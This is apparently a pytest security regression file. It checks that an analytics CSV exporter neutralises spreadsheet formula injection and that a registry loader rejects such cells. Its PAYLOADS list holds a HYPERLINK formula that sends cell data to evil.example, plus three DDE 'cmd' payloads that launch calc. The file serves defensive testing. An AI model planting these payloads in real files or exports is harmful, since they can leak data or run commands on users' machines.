"""Defect 3: CSV formula injection — analytics CSV exports wrote `=HYPERLINK(…)`, `+cmd|…` and
`-2+3+cmd…` raw, and the registry loader accepted cells starting with = + - @."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from assistant.analytics.service import AnalyticsService, write_rows
from assistant.errors import ValidationProblem
from ingest.registry import COLUMNS, load_registry
from tests.security.conftest import token_for

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def _row(function_id: str, function_text: str) -> dict[str, str]:
    row = dict.fromkeys(COLUMNS, "")
    row.update(
        function_id=function_id,
        agency="Министерство цифрового развития",
        function_text=function_text,
        category="Госуслуги",
        automatable="да",
        automation_risk="низкий",
        citation="public-services#st8",
    )
    return row


def _cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_analytics_csv_export_neutralises_formulas(tmp_path: Path, payload: str) -> None:
    service = AnalyticsService([{**_row("F-1", payload), "agency": payload}, _row("F-2", "Обычная функция")])
    data, _, _ = service.export("summary", "csv")  # by agency: the payload is a row label
    assert f"'{payload}" in _cells(data)
    path = write_rows(tmp_path / "bulk.csv", [_row("F-1", payload)])  # `kenes analytics assess --bulk`
    for cells in (_cells(data), _cells(path.read_bytes())):
        assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    assert f"'{payload}" in _cells(path.read_bytes())


def test_negative_numbers_stay_numbers_in_csv() -> None:
    from assistant.analytics.export import Table, to_csv

    assert _cells(to_csv(Table("t", "t", ["x"], [[-0.25]]))) == ["x", "-0.25"]


def _registry_csv(function_text: str) -> bytes:
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=list(COLUMNS), lineterminator="\n")
    writer.writeheader()
    writer.writerow(_row("F-1", "Обычная функция"))
    writer.writerow(_row("F-2", function_text))
    return buf.getvalue().encode("utf-8")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_registry_loader_flags_formula_cells_with_line_and_reason(tmp_path: Path, payload: str) -> None:
    path = tmp_path / "reg.csv"
    path.write_bytes(_registry_csv(payload))
    with pytest.raises(ValidationProblem) as caught:
        load_registry(path)
    assert caught.value.problems == [
        f"reg.csv:3: function_text starts with '{payload[0]}': a spreadsheet would run it as a formula"
    ]


def test_registry_upload_with_a_formula_cell_is_refused(client: TestClient) -> None:
    admin = token_for(client, "root", "admin")
    files = {"registry": ("reg.csv", _registry_csv(PAYLOADS[0]))}
    r = client.post("/api/admin/ingest", files=files, headers=admin)
    assert r.status_code == 422
    assert r.json()["error"]["details"]["problems"] == [
        "reg.csv:3: function_text starts with '=': a spreadsheet would run it as a formula"
    ]
